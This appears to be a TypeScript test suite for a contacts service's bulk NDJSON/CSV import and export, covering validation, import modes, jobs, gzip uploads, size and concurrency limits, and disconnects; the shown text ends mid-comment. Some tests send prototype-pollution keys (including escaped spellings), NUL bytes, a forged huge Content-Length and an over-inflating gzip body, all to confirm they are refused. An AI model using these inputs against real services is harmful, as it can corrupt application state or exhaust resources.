/**
 * Bulk import and export of contacts (issue 9.1, 9.2; API.md section 7) through the real
 * server: NDJSON and CSV, normalised like POST /contacts, modes, per-row errors with their
 * line, jobs with progress, a declared length over the policy refused, a client that goes
 * away mid-upload, workspaces kept apart, and exports that import back as they were.
 */
import assert from 'node:assert/strict';
import { gunzipSync, gzipSync } from 'node:zlib';
import { request as httpRequest, type ClientRequest, type IncomingMessage } from 'node:http';
import { test } from 'node:test';
import { eq } from 'drizzle-orm';
import { loadConfig } from '../../src/core/config.js';
import { contactImports, contacts } from '../../src/core/db/schema.js';
import { compactSearchIndex, needsCompaction, searchIndexState } from '../../src/core/db/searchIndex.js';
import { assertProblem, build, buildAsOwner, joinNode, sqliteStoreOf, type TestServer } from '../helpers.js';

const NDJSON = { 'content-type': 'application/x-ndjson' };
const CSV = { 'content-type': 'text/csv' };

async function importText(s: TestServer, token: string, body: string | Buffer, headers: Record<string, string>, query = '') {
  return s.request('POST', `/contacts/import${query}`, { token, raw: body, headers });
}

async function contactsOf(s: TestServer, token: string): Promise<any[]> {
  const all: any[] = [];
  let cursor: string | null = null;
  do {
    const res = await s.request('GET', `/contacts?limit=200${cursor ? `&cursor=${cursor}` : ''}`, { token });
    assert.equal(res.status, 200, res.text);
    all.push(...res.body.data);
    cursor = res.body.nextCursor;
  } while (cursor);
  return all;
}

async function waitForJob(s: TestServer, token: string, id: number, done: (job: any) => boolean, timeoutMs = 60_000): Promise<any> {
  const started = Date.now();
  for (;;) {
    const res = await s.request('GET', `/contacts/imports/${id}`, { token });
    assert.equal(res.status, 200, res.text);
    if (done(res.body)) return res.body;
    assert.ok(Date.now() - started < timeoutMs, `job ${id} still ${JSON.stringify(res.body).slice(0, 300)}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** The line and field of each row an import answered 200 refused. */
function refusedAt(res: { status: number; text: string; body: any }): [number, string][] {
  assert.equal(res.status, 200, res.text);
  return res.body.errors.map((e: { line: number; field: string }) => [e.line, e.field]);
}

const lines = (rows: unknown[]) => `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`;

test('NDJSON: rows are normalised like POST /contacts; bad rows are reported with line and field and never stop the good ones', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const body = [
    JSON.stringify({
      email: '  Ada@Example.COM ',
      phone: '+1 (613) 555-0138',
      firstName: ' Ada ',
      lastName: 'Lovelace',
      tags: ['VIP', 'vip', 'beta'],
      attributes: { plan: 'pro' },
    }),
    '',
    JSON.stringify({ email: 'not-an-email', firstName: 'Bad' }),
    JSON.stringify({ phone: '12', firstName: 'Bad phone' }),
    '{"email": "broken@example.com"',
    JSON.stringify({ firstName: 'Nobody' }),
    JSON.stringify({ email: 'x@example.com', colour: 'red' }),
    JSON.stringify(['an', 'array']),
    JSON.stringify({ email: 'bob@example.com', tags: ['x'.repeat(65)] }),
    JSON.stringify({ email: 42 }),
    JSON.stringify({ email: 'bob@example.com', firstName: 'Bob' }),
  ].join('\r\n');
  const res = await importText(s, token, body, NDJSON);
  assert.equal(res.status, 200, res.text);
  assert.equal(res.body.status, 'COMPLETED');
  assert.equal(res.body.created, 2);
  assert.equal(res.body.updated, 0);
  assert.equal(res.body.errorCount, 8);
  assert.equal(res.body.lines, 11);
  assert.deepEqual(
    res.body.errors.map((e: any) => [e.line, e.field]),
    [
      [3, 'email'],
      [4, 'phone'],
      [5, null],
      [6, 'email'],
      [7, 'colour'],
      [8, null],
      [9, 'tags'],
      [10, 'email'],
    ],
  );
  for (const e of res.body.errors) assert.ok(typeof e.reason === 'string' && e.reason.length > 0);
  const all = await contactsOf(s, token);
  const ada = all.find((c) => c.firstName === 'Ada');
  assert.deepEqual(
    { email: ada.email, phone: ada.phone, firstName: ada.firstName, lastName: ada.lastName, tags: ada.tags, attributes: ada.attributes },
    { email: 'ada@example.com', phone: '+16135550138', firstName: 'Ada', lastName: 'Lovelace', tags: ['beta', 'VIP'], attributes: { plan: 'pro' } },
  );
  assert.ok(all.some((c) => c.email === 'bob@example.com' && c.firstName === 'Bob'));
  // Search and counts know the imported contacts.
  assert.equal((await s.request('GET', '/contacts?q=lovel', { token })).body.data.length, 1);
  assert.equal((await s.request('GET', '/billing/plan', { token })).body.usage.contacts, 2);
  assert.deepEqual((await s.request('GET', '/tags', { token })).body.data, [
    { name: 'beta', count: 1 },
    { name: 'VIP', count: 1 },
  ]);
  // The job stays readable, and the import is audited once.
  const job = await s.request('GET', `/contacts/imports/${res.body.id}`, { token });
  assert.deepEqual(job.body, res.body);
  const audit = await s.request('GET', '/audit-logs?action=contact.imported', { token });
  assert.equal(audit.body.data.length, 1);
  assert.equal(audit.body.data[0].metadata.created, 2);
});

test('U+0000 in a row (NDJSON or CSV) is refused at its field like the API refuses it, on every store; the other rows are imported', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const ndjson = [
    '{"email":"n1@example.com","firstName":"a\\u0000b"}',
    '{"email":"n2@example.com","attributes":{"plan":{"tier":"x\\u0000"}}}',
    '{"email":"n3@example.com","attributes":{"k\\u0000":1}}',
    '{"email":"n4@example.com","tags":["ok","n\\u0000"]}',
    '{"email":"n5@example.com\\u0000"}',
    '{"email":"fine@example.com","firstName":"Fine"}',
  ].join('\n');
  const res = await importText(s, token, ndjson, NDJSON);
  assert.equal(res.status, 200, res.text);
  assert.deepEqual([res.body.status, res.body.created, res.body.errorCount], ['COMPLETED', 1, 5]);
  assert.deepEqual(
    res.body.errors.map((e: any) => [e.line, e.field, e.reason]),
    [
      [1, 'firstName', 'must not contain U+0000'],
      [2, 'attributes', 'must not contain U+0000'],
      [3, 'attributes', 'must not contain U+0000'],
      [4, 'tags', 'must not contain U+0000'],
      [5, 'email', 'must not contain U+0000'],
    ],
  );
  const csv = await importText(
    s,
    token,
    'email,lastName,plan\nc1@example.com,x\u0000y,gold\nc2@example.com,Fine,si\u0000lver\nc3@example.com,Fine,gold\n',
    CSV,
  );
  assert.equal(csv.status, 200, csv.text);
  assert.deepEqual([csv.body.status, csv.body.created], ['COMPLETED', 1]);
  assert.deepEqual(
    csv.body.errors.map((e: any) => [e.line, e.field]),
    [
      [2, 'lastName'],
      [3, 'attributes'],
    ],
  );
  assert.deepEqual((await contactsOf(s, token)).map((c) => c.email).sort(), ['c3@example.com', 'fine@example.com']);
});

test('keys the API refuses in a body (__proto__, constructor.prototype) are refused in a row too; a column named constructor is an attribute', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const ndjson = [
    '{"email":"p1@example.com","attributes":{"__proto__":{"polluted":true},"plan":"gold"}}',
    '{"email":"p2@example.com","attributes":{"deep":{"constructor":{"prototype":{"polluted":true}}}}}',
    '{"email":"p3@example.com","attributes":{"constructor":"kept","plan":"gold"}}',
    // The same keys spelled with escapes: the line's text does not show them, the parsed row does.
    '{"email":"p4@example.com","attributes":{"\\u005f_proto__":{"polluted":true}}}',
    '{"email":"p5@example.com","attributes":{"\\u0063onstructor":{"prototype":{"polluted":true}}}}',
  ].join('\n');
  const res = await importText(s, token, ndjson, NDJSON);
  assert.equal(res.status, 200, res.text);
  assert.deepEqual(
    res.body.errors.map((e: any) => [e.line, e.field, e.reason]),
    [
      [1, 'attributes', 'must not have a key named "__proto__"'],
      [2, 'attributes', 'must not have a key named "constructor" holding "prototype"'],
      [4, 'attributes', 'must not have a key named "__proto__"'],
      [5, 'attributes', 'must not have a key named "constructor" holding "prototype"'],
    ],
  );
  const csv = await importText(
    s,
    token,
    'email,constructor,__proto__,attributes\nc1@example.com,b,,\nc2@example.com,b,x,\nc3@example.com,,,"{""__proto__"":{""polluted"":true}}"\n',
    CSV,
  );
  assert.deepEqual(refusedAt(csv), [
    [3, 'attributes'],
    [4, 'attributes'],
  ]);
  // Under a header without such names, the keys of an attributes cell: plain or with escapes.
  const escaped = await importText(
    s,
    token,
    'email,attributes\nd1@example.com,"{""\\u005f_proto__"":{""polluted"":true}}"\nd2@example.com,"{""c\\u006fnstructor"":{""prototype"":{}}}"\nd3@example.com,"{""k"":""v""}"\n',
    CSV,
  );
  assert.deepEqual(refusedAt(escaped), [
    [2, 'attributes'],
    [3, 'attributes'],
  ]);
  assert.equal(escaped.body.created, 1);
  const byEmail = new Map((await contactsOf(s, token)).map((c) => [c.email, c.attributes]));
  assert.deepEqual(Object.fromEntries(byEmail), {
    'p3@example.com': { constructor: 'kept', plan: 'gold' },
    'c1@example.com': { constructor: 'b' },
    'd3@example.com': { k: 'v' },
  });
  assert.equal(({} as { polluted?: boolean }).polluted, undefined);
  // The API refuses the same keys in a body.
  const api = await s.request('POST', '/contacts', {
    token,
    raw: '{"email":"a1@example.com","attributes":{"__proto__":{"x":1}}}',
    headers: { 'content-type': 'application/json' },
  });
  assert.equal(api.status, 400, api.text);
});

test('CSV: header row, quoted fields with commas, quotes and line breaks, a BOM, tags split on ;, other columns into attributes', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const csv =
    '\uFEFFemail,Phone,firstName,lastName,tags,company,notes\r\n' +
    'ann@example.com,,Ann,"Smith, Jr.","vip; beta",Acme,"line one\nline two"\r\n' +
    '\r\n' +
    '"bo""b@example.com",+16135550100,Bob,,,,\r\n' +
    'carl@example.com,,"Carl ""The Man""",Jones,,"Big, Co",\r\n' +
    'bad-email,,X,,,,\r\n' +
    'dan@example.com,,Dan,,,,,extra\r\n' +
    'eve@example.com,,Eve,,,,';
  const res = await importText(s, token, csv, CSV);
  assert.equal(res.status, 200, res.text);
  assert.equal(res.body.format, 'csv');
  assert.equal(res.body.created, 3, JSON.stringify(res.body));
  assert.deepEqual(
    res.body.errors.map((e: any) => [e.line, e.field]),
    [
      [5, 'email'], // "bo""b@..." is not an address
      [7, 'email'],
      [8, null], // more fields than the header
    ],
  );
  const all = await contactsOf(s, token);
  const ann = all.find((c) => c.email === 'ann@example.com');
  assert.equal(ann.lastName, 'Smith, Jr.');
  assert.deepEqual(ann.tags, ['beta', 'vip']);
  assert.deepEqual(ann.attributes, { company: 'Acme', notes: 'line one\nline two' });
  const carl = all.find((c) => c.email === 'carl@example.com');
  assert.equal(carl.firstName, 'Carl "The Man"');
  assert.deepEqual(carl.attributes, { company: 'Big, Co' });
  assert.ok(all.some((c) => c.email === 'eve@example.com'));

  // A CSV that cannot be read (an unclosed quote) fails the job with where it stopped.
  const broken = await importText(s, token, 'email,firstName\r\nzed@example.com,Zed\r\n"unclosed@example.com,Oops\r\n', CSV);
  assert.equal(broken.status, 200, broken.text);
  assert.equal(broken.body.status, 'FAILED');
  assert.equal(broken.body.failure.code, 'invalid_csv');

  // A header naming one field twice (whatever its spelling) or one attribute twice is refused
  // before any row is written, naming both columns; the same name under 'id' twice is harmless.
  const before = (await contactsOf(s, token)).length;
  for (const [head, message] of [
    ['email,firstName,Email', /email twice \(columns 1 and 3\)/],
    ['email,first_name,firstName', /firstName twice \(columns 2 and 3\)/],
    ['email,plan,plan', /the attribute "plan" twice \(columns 2 and 3\)/],
  ] as const) {
    const twice = await importText(s, token, `${head}\r\nhead@example.com,a,b\r\n`, CSV);
    assert.equal(twice.status, 200, twice.text);
    assert.equal(twice.body.status, 'FAILED', head);
    assert.equal(twice.body.failure.code, 'invalid_csv', head);
    assert.match(twice.body.failure.detail, message, head);
    assert.equal(twice.body.created, 0, head);
  }
  // A header without an email or phone column could import nothing: refused at once, naming its columns.
  for (const [head, message] of [
    ['Mail,First Name', /no email or phone column \(its columns: "Mail", "First Name"\)/],
    ['email;firstName', /its columns: "email;firstName"\)\. .*separate them with commas/],
  ] as const) {
    const none = await importText(s, token, `${head}\r\nhead@example.com,a\r\n`, CSV);
    assert.equal(none.body.status, 'FAILED', head);
    assert.equal(none.body.failure.code, 'invalid_csv', head);
    assert.match(none.body.failure.detail, message, head);
    assert.equal(none.body.errorCount, 0, head);
  }
  assert.equal((await contactsOf(s, token)).length, before);
  const ids = await importText(s, token, 'id,email,id,Plan,plan\r\n1,ids@example.com,2,Gold,gold\r\n', CSV);
  assert.equal(ids.body.created, 1, ids.text);
  assert.deepEqual((await contactsOf(s, token)).find((c) => c.email === 'ids@example.com').attributes, { Plan: 'Gold', plan: 'gold' });
});

test('duplicates in one file, modes create|update|upsert, and an email that belongs to another contact', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const existing = await s.request('POST', '/contacts', { token, body: { email: 'old@example.com', phone: '+16135550111', firstName: 'Old', tags: ['keep'] } });
  const other = await s.request('POST', '/contacts', { token, body: { email: 'other@example.com', phone: '+16135550122' } });
  assert.equal(existing.status, 201);

  const dup = await importText(
    s,
    token,
    lines([
      { email: 'new@example.com', firstName: 'First' },
      { email: 'NEW@example.com', lastName: 'Second', tags: ['t'] },
      { email: 'new@example.com', lastName: 'Second', tags: ['T'] },
    ]),
    NDJSON,
  );
  assert.equal(dup.status, 200, dup.text);
  assert.deepEqual([dup.body.created, dup.body.updated, dup.body.skipped, dup.body.errorCount], [1, 1, 1, 0]);
  const merged = (await s.request('GET', '/contacts?email=new@example.com', { token })).body.data;
  assert.equal(merged.length, 1);
  assert.deepEqual([merged[0].firstName, merged[0].lastName, merged[0].tags], ['First', 'Second', ['t']]);

  // The email is contact 1's, the phone contact 2's: refused, neither changes.
  const clash = await importText(s, token, lines([{ email: 'old@example.com', phone: '+16135550122', firstName: 'Clash' }]), NDJSON);
  assert.equal(clash.body.errorCount, 1);
  assert.equal(clash.body.errors[0].line, 1);
  assert.equal(clash.body.errors[0].field, 'phone');
  assert.match(clash.body.errors[0].reason, /another contact/);
  assert.equal((await s.request('GET', `/contacts/${existing.body.id}`, { token })).body.firstName, 'Old');
  assert.equal((await s.request('GET', `/contacts/${other.body.id}`, { token })).body.firstName, null);

  const rows = lines([
    { email: 'old@example.com', firstName: 'Changed', tags: ['more'], attributes: { a: 1 } },
    { phone: '+1 613 555 0122', lastName: 'ByPhone' },
    { email: 'brand-new@example.com' },
  ]);
  const created = await importText(s, token, rows, NDJSON, '?mode=create');
  assert.deepEqual([created.body.mode, created.body.created, created.body.updated, created.body.skipped], ['create', 1, 0, 2]);
  assert.equal((await s.request('GET', `/contacts/${existing.body.id}`, { token })).body.firstName, 'Old');

  const updated = await importText(s, token, rows.replace('brand-new', 'brand-newer'), NDJSON, '?mode=update');
  assert.deepEqual([updated.body.created, updated.body.updated, updated.body.skipped], [0, 2, 1]);
  const old = (await s.request('GET', `/contacts/${existing.body.id}`, { token })).body;
  assert.deepEqual([old.firstName, old.tags, old.attributes], ['Changed', ['keep', 'more'], { a: 1 }]);
  assert.equal((await s.request('GET', `/contacts/${other.body.id}`, { token })).body.lastName, 'ByPhone');
  assert.equal((await s.request('GET', '/contacts?email=brand-newer@example.com', { token })).body.data.length, 0);

  const upserted = await importText(s, token, rows.replace('brand-new', 'brand-newest'), NDJSON);
  assert.deepEqual([upserted.body.mode, upserted.body.created, upserted.body.updated, upserted.body.skipped], ['upsert', 1, 0, 2]);
  assertProblem(await importText(s, token, rows, NDJSON, '?mode=merge'), 400);
});

test('an empty file, a wrong content type, roles, and another workspace left untouched', async (t) => {
  const s = await build(t);
  const token = await s.login(s.owner.email, s.owner.password);
  const empty = await importText(s, token, '', NDJSON);
  assert.equal(empty.status, 200, empty.text);
  assert.deepEqual([empty.body.status, empty.body.created, empty.body.errorCount, empty.body.lines], ['COMPLETED', 0, 0, 0]);
  const emptyCsv = await importText(s, token, '', CSV);
  assert.deepEqual([emptyCsv.body.status, emptyCsv.body.created], ['COMPLETED', 0]);
  const headerOnly = await importText(s, token, 'email,phone\r\n', CSV);
  assert.deepEqual([headerOnly.body.status, headerOnly.body.created], ['COMPLETED', 0]);

  assertProblem(await importText(s, token, '{"email":"a@example.com"}', { 'content-type': 'application/json' }), 415, 'unsupported_media_type');
  assertProblem(await importText(s, token, 'a', { 'content-type': 'text/plain' }), 415);

  const viewer = await s.userWithRole('VIEWER');
  assertProblem(await importText(s, viewer.token, lines([{ email: 'v@example.com' }]), NDJSON), 403, 'forbidden');
  assertProblem(await importText(s, '', lines([{ email: 'v@example.com' }]), NDJSON), 401);
  const member = await s.userWithRole('MEMBER');
  const mine = await importText(s, member.token, lines([{ email: 'shared@example.com', firstName: 'Mine' }]), NDJSON);
  assert.equal(mine.body.created, 1);
  assert.equal((await s.request('GET', `/contacts/imports/${mine.body.id}`, { token: viewer.token })).status, 200);

  // Another workspace has a contact with the same email: an import here never touches it.
  const theirs = await s.otherWorkspace();
  const their = await s.request('POST', '/contacts', { token: theirs.token, body: { email: 'shared@example.com', firstName: 'Theirs', tags: ['x'] } });
  const again = await importText(
    s,
    token,
    lines([{ email: 'shared@example.com', firstName: 'Changed', tags: ['y'] }, { email: 'only-here@example.com' }]),
    NDJSON,
  );
  assert.deepEqual([again.body.created, again.body.updated], [1, 1]);
  const after = (await s.request('GET', `/contacts/${their.body.id}`, { token: theirs.token })).body;
  assert.deepEqual([after.firstName, after.tags], ['Theirs', ['x']]);
  assert.equal((await s.request('GET', '/billing/plan', { token: theirs.token })).body.usage.contacts, 1);
  // Their jobs are theirs: 404 here, like any id of another workspace.
  assertProblem(await s.request('GET', `/contacts/imports/${again.body.id}`, { token: theirs.token }), 404, 'import_not_found');
  const list = await s.request('GET', '/contacts/imports', { token: theirs.token });
  assert.deepEqual(list.body, { data: [], nextCursor: null });
  const exported = await s.request('GET', '/contacts/export', { token: theirs.token });
  assert.equal(exported.text.trim().split('\n').length, 1);
});

/** A POST with headers of our choosing and a body written by the test, to control the upload. */
function rawUpload(
  s: TestServer,
  token: string,
  headers: Record<string, string | number>,
): { req: ClientRequest; response: Promise<{ res: IncomingMessage; text: string }> } {
  const url = new URL('/contacts/import', s.url);
  const req = httpRequest(url, { method: 'POST', headers: { authorization: `Bearer ${token}`, ...headers } });
  const response = new Promise<{ res: IncomingMessage; text: string }>((resolve, reject) => {
    req.on('response', (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ res, text }));
      res.on('error', reject);
    });
    req.on('error', reject);
  });
  return { req, response };
}

test('a declared length over the policy limit (2 GB) is refused with 413 before the body is read', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const { req, response } = rawUpload(s, token, { ...NDJSON, 'content-length': 2 * 1024 * 1024 * 1024 });
  req.write(lines([{ email: 'a@example.com' }]));
  const { res, text } = await response;
  req.destroy();
  assert.equal(res.statusCode, 413, text);
  assert.match(String(res.headers['content-type']), /application\/problem\+json/);
  assert.equal(JSON.parse(text).code, 'import_too_large');
  assert.equal((await s.request('GET', '/contacts', { token })).body.data.length, 0);
  assert.deepEqual((await s.request('GET', '/contacts/imports', { token })).body.data, []);
});

test('an upload over the sync size runs as a job: 202 with its id at once, progress, then COMPLETED', async (t) => {
  const s = await build(t, { env: { SVC_IMPORT_SYNC_BYTES: '1024' } });
  const token = await s.login(s.owner.email, s.owner.password);
  const rows = Array.from({ length: 5000 }, (_, i) => ({ email: `job${i}@example.com`, tags: i % 2 ? ['odd'] : [] }));
  const res = await importText(s, token, lines(rows), NDJSON);
  assert.equal(res.status, 202, res.text);
  assert.equal(res.headers.get('location'), `/contacts/imports/${res.body.id}`);
  assert.equal(res.body.bytesTotal, Buffer.byteLength(lines(rows)));
  const job = await waitForJob(s, token, res.body.id, (j) => j.status !== 'RUNNING');
  assert.deepEqual([job.status, job.created, job.lines, job.bytesRead, job.finishedAt !== null], ['COMPLETED', 5000, 5000, job.bytesTotal, true]);
  assert.equal((await s.request('GET', '/billing/plan', { token })).body.usage.contacts, 5000);
  assert.deepEqual((await s.request('GET', '/tags', { token })).body.data, [{ name: 'odd', count: 2500 }]);
  // Each batch of 2,000 rows went in as one statement: the search index finds the first and
  // last row of every batch.
  for (const i of [0, 1999, 2000, 3999, 4000, 4999]) {
    const found = (await s.request('GET', `/contacts?q=job${i}@example.com`, { token })).body.data;
    assert.deepEqual(
      found.map((c: { email: string }) => c.email),
      [`job${i}@example.com`],
    );
  }
  if (s.store.dialect === 'sqlite') {
    // The FTS5 index merges 16 segments a level (migration 0015) and is consistent.
    assert.deepEqual(s.db.$client.prepare("SELECT v FROM contacts_fts_config WHERE k = 'automerge'").get(), { v: 16 });
    await sqliteStoreOf(s).exclusive((w) => w.$client.exec("INSERT INTO contacts_fts (contacts_fts, rank) VALUES ('integrity-check', 1)"));
  }
});

test('Content-Encoding: gzip uploads are read decompressed (sync and as a job); a body that is not gzip, or another coding, is refused', async (t) => {
  const s = await build(t, { env: { SVC_IMPORT_SYNC_BYTES: '4096', SVC_IMPORT_MAX_BYTES: '300000' } });
  const token = await s.login(s.owner.email, s.owner.password);
  const gz = { ...NDJSON, 'content-encoding': 'gzip' };
  const small = await importText(s, token, gzipSync(lines([{ email: 'zip@example.com', tags: ['gz'] }])), gz);
  assert.equal(small.status, 200, small.text);
  assert.deepEqual([small.body.status, small.body.created, small.body.bytesTotal], ['COMPLETED', 1, null]);

  // Whether it is answered at once goes by the declared (compressed) length: over the sync size, a job.
  const emails = Array.from({ length: 5000 }, (_, i) => `zipped${i}@example.com`);
  const packed = gzipSync(`email\n${emails.join('\n')}\n`);
  assert.ok(packed.length > 4096);
  const big = await importText(s, token, packed, { ...CSV, 'content-encoding': 'GZIP' });
  assert.equal(big.status, 202, big.text);
  const job = await waitForJob(s, token, big.body.id, (j) => j.status !== 'RUNNING');
  assert.deepEqual([job.status, job.created, job.lines], ['COMPLETED', 5000, 5001]);

  // Declared gzip but plain: FAILED invalid_gzip, nothing read as it is.
  const plain = await importText(s, token, lines([{ email: 'plain@example.com' }]), gz);
  assert.deepEqual([plain.body.status, plain.body.failure?.code, plain.body.created], ['FAILED', 'invalid_gzip', 0], plain.text);
  // So is an empty body (gzip of nothing is 20 bytes), where an empty plain body is an empty file.
  const empty = await importText(s, token, '', gz);
  assert.deepEqual([empty.body.status, empty.body.failure?.code], ['FAILED', 'invalid_gzip'], empty.text);
  const nothing = await importText(s, token, gzipSync(''), gz);
  assert.deepEqual([nothing.body.status, nothing.body.created], ['COMPLETED', 0], nothing.text);
  // Inflating past SVC_IMPORT_MAX_BYTES: 413 like a file that large.
  assertProblem(await importText(s, token, gzipSync(Buffer.alloc(2_000_000, 0x20)), gz), 413, 'import_too_large');
  // Other codings are refused before the body is read.
  for (const coding of ['br', 'deflate', 'gzip, br']) {
    const res = await importText(s, token, lines([{ email: 'br@example.com' }]), { ...NDJSON, 'content-encoding': coding });
    assertProblem(res, 415, 'unsupported_content_encoding');
    assert.equal(res.headers.get('accept-encoding'), 'gzip, identity');
  }
  const stored = (await contactsOf(s, token)).map((c) => c.email);
  assert.equal(stored.length, 5001);
  assert.ok(!stored.includes('plain@example.com') && !stored.includes('br@example.com'));
});

test('a client that stalls, then disconnects mid-upload: its whole rows are committed while it stalls, and nothing half-written is stored', async (t) => {
  const { s, token } = await buildAsOwner(t);
  // Chunked (no declared length): answered 202 at once, read on after the answer.
  const { req, response } = rawUpload(s, token, { ...NDJSON, 'transfer-encoding': 'chunked' });
  req.write(lines(Array.from({ length: 5000 }, (_, i) => ({ email: `d${i}@example.com`, firstName: `D${i}` }))));
  const { res, text } = await response;
  assert.equal(res.statusCode, 202, text);
  const id = JSON.parse(text).id;
  // Two batches of 2,000 are committed; the last 1,000 rows, too few for a batch, are
  // committed 2 s later though no further byte comes.
  await waitForJob(s, token, id, (j) => j.lines >= 4000);
  const stalled = await waitForJob(s, token, id, (j) => j.lines >= 5000);
  assert.deepEqual([stalled.status, stalled.created], ['RUNNING', 5000]);
  // Then half a row, and the client is gone: the whole rows before it are kept, the cut one is not.
  req.write('{"email":"whole@example.com"}\n{"email": "half@exam');
  await new Promise((r) => setTimeout(r, 100));
  req.destroy();
  const job = await waitForJob(s, token, id, (j) => j.status !== 'RUNNING');
  assert.equal(job.status, 'FAILED');
  assert.equal(job.failure.code, 'client_disconnected');
  assert.equal(job.created, 5001);
  assert.equal(job.lines, 5001);
  const stored = await s.db.select({ email: contacts.email }).from(contacts);
  assert.equal(stored.length, 5001);
  assert.ok(stored.some((c) => c.email === 'whole@example.com'));
  assert.equal(stored.filter((c) => c.email?.startsWith('half')).length, 0);
  assert.equal((await s.request('GET', '/billing/plan', { token })).body.usage.contacts, 5001);
});

test('SVC_IMPORT_CONCURRENCY and SVC_EXPORT_CONCURRENCY outside 1-100, or not integers, are refused with the setting named', async (t) => {
  const s = await build(t);
  for (const [name, key] of [
    ['SVC_IMPORT_CONCURRENCY', 'importConcurrency'],
    ['SVC_EXPORT_CONCURRENCY', 'exportConcurrency'],
  ]) {
    for (const value of ['0', '101', '2.5', 'four', '-1'])
      assert.throws(() => loadConfig({ dataDir: s.dataDir }, { [name!]: value }), new RegExp(`${key} must be an integer from 1 to 100`), `${name}=${value}`);
    assert.equal(loadConfig({ dataDir: s.dataDir }, { [name!]: ' 100 ' })[key as 'importConcurrency'], 100);
  }
});

test('a workspace runs at most SVC_IMPORT_CONCURRENCY imports at once: one more is 429 too_many_imports, and reads nothing', async (t) => {
  const s = await build(t, { env: { SVC_IMPORT_CONCURRENCY: '2' } });
  const token = await s.login(s.owner.email, s.owner.password);
  // A job whose process stopped beating does not hold a place.
  await s.store.transaction((tx) =>
    tx.insert(contactImports).values({
      workspaceId: s.workspaceId,
      format: 'csv',
      mode: 'upsert',
      status: 'RUNNING',
      heartbeatAt: new Date(Date.now() - 5 * 60_000).toISOString(),
    }),
  );
  const uploads = [0, 1].map(() => rawUpload(s, token, { ...NDJSON, 'transfer-encoding': 'chunked' }));
  const ids: number[] = [];
  for (const [i, { req, response }] of uploads.entries()) {
    req.write(lines([{ email: `open${i}@example.com` }]));
    const { res, text } = await response;
    assert.equal(res.statusCode, 202, text);
    ids.push(JSON.parse(text).id);
  }
  // A third, sized or not, is refused before its body is read.
  const refused = await importText(s, token, lines([{ email: 'third@example.com' }]), NDJSON);
  assertProblem(refused, 429, 'too_many_imports');
  assert.equal(refused.headers.get('retry-after'), '10');
  assert.match(refused.body.detail, /already has 2 imports running/);
  const chunked = rawUpload(s, token, { ...NDJSON, 'transfer-encoding': 'chunked' });
  chunked.req.end(lines([{ email: 'fourth@example.com' }]));
  const { res, text } = await chunked.response;
  assert.equal(res.statusCode, 429, text);
  assert.equal(JSON.parse(text).code, 'too_many_imports');
  const jobs = (await s.request('GET', '/contacts/imports', { token })).body.data;
  assert.deepEqual(
    jobs.map((j: any) => j.status),
    ['RUNNING', 'RUNNING', 'FAILED'],
    'no job for the refused ones; the stale one is reported interrupted',
  );

  // Once one has finished, the next is taken.
  uploads[0]!.req.end();
  assert.equal((await waitForJob(s, token, ids[0]!, (j) => j.status !== 'RUNNING')).status, 'COMPLETED');
  const next = await importText(s, token, lines([{ email: 'next@example.com' }]), NDJSON);
  assert.equal(next.status, 200, next.text);
  assert.equal(next.body.created, 1);
  uploads[1]!.req.end();
  assert.equal((await waitForJob(s, token, ids[1]!, (j) => j.status !== 'RUNNING')).status, 'COMPLETED');
  const emails = (await contactsOf(s, token)).map((c) => c.email).sort();
  assert.deepEqual(emails, ['next@example.com', 'open0@example.com', 'open1@example.com']);
});

test('an import while the API creates some of its emails: every row lands once, and the import completes (on every store)', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const n = 6000;
  const file = lines(Array.from({ length: n }, (_, i) => ({ email: `race${i}@example.com`, firstName: `R${i}`, tags: ['imported'] })));
  const importing = importText(s, token, file, NDJSON);
  // From the end of the file back, while the batches run: on PostgreSQL each batch's read of
  // its emails is overtaken by these inserts more often than a transaction is retried.
  const created = [];
  for (let i = n - 1; i >= 0; i -= 37) created.push(s.request('POST', '/contacts', { token, body: { email: `Race${i}@Example.com`, lastName: 'api' } }));
  const res = await importing;
  const statuses = (await Promise.all(created)).map((r) => r.status);
  assert.deepEqual(
    statuses.filter((c) => c !== 201 && c !== 409),
    [],
    'the API answers created, or taken by the import',
  );
  assert.equal(res.status, 200, res.text);
  const job = await waitForJob(s, token, res.body.id, (j) => j.status !== 'RUNNING');
  assert.deepEqual([job.status, job.created + job.updated, job.errorCount, job.lines], ['COMPLETED', n, 0, n]);
  assert.equal(job.updated, statuses.filter((c) => c === 201).length, 'the contacts the API made first were updated by their rows');
  const all = await contactsOf(s, token);
  assert.equal(all.length, n);
  assert.equal(new Set(all.map((c) => c.email)).size, n);
  assert.deepEqual(
    all.filter((c) => c.firstName !== `R${c.email.slice(4, -12)}` || !c.tags.includes('imported')),
    [],
  );
  assert.equal((await s.request('GET', '/billing/plan', { token })).body.usage.contacts, n);
});

test('a server shutting down mid-upload does not wait for it: the job ends FAILED interrupted with the rows committed', async (t) => {
  const { s, token } = await buildAsOwner(t);
  const { req, response } = rawUpload(s, token, { ...NDJSON, 'transfer-encoding': 'chunked' });
  req.on('error', () => undefined); // the server closes this connection
  req.write(lines(Array.from({ length: 5000 }, (_, i) => ({ email: `s${i}@example.com` }))));
  const { res, text } = await response;
  assert.equal(res.statusCode, 202, text);
  const id = JSON.parse(text).id;
  await waitForJob(s, token, id, (j) => j.lines >= 4000);
  // The client goes on holding its upload open; closing the server stops it.
  const started = Date.now();
  await s.app.close();
  assert.ok(Date.now() - started < 10_000, `closed in ${Date.now() - started} ms`);
  const [job] = await s.db.select().from(contactImports).where(eq(contactImports.id, id));
  assert.deepEqual([job!.status, job!.failureCode, job!.created, job!.lines], ['FAILED', 'interrupted', 4000, 4000]);
  assert.match(job!.failureDetail ?? '', /shut down/);
  assert.equal((await s.db.select({ id: contacts.id }).from(contacts)).length, 4000);
  req.destroy();
});

test('a workspace streams at most SVC_EXPORT_CONCURRENCY exports at once on a server: one more is 429 too_many_exports until one ends', async (t) => {
  const s = await build(t, { env: { SVC_EXPORT_CONCURRENCY: '1', SVC_IMPORT_SYNC_BYTES: String(64 * 1024 * 1024) } });
  const token = await s.login(s.owner.email, s.owner.password);
  // Enough that an export (about 9 MB: few rows of large attributes, which import quickly)
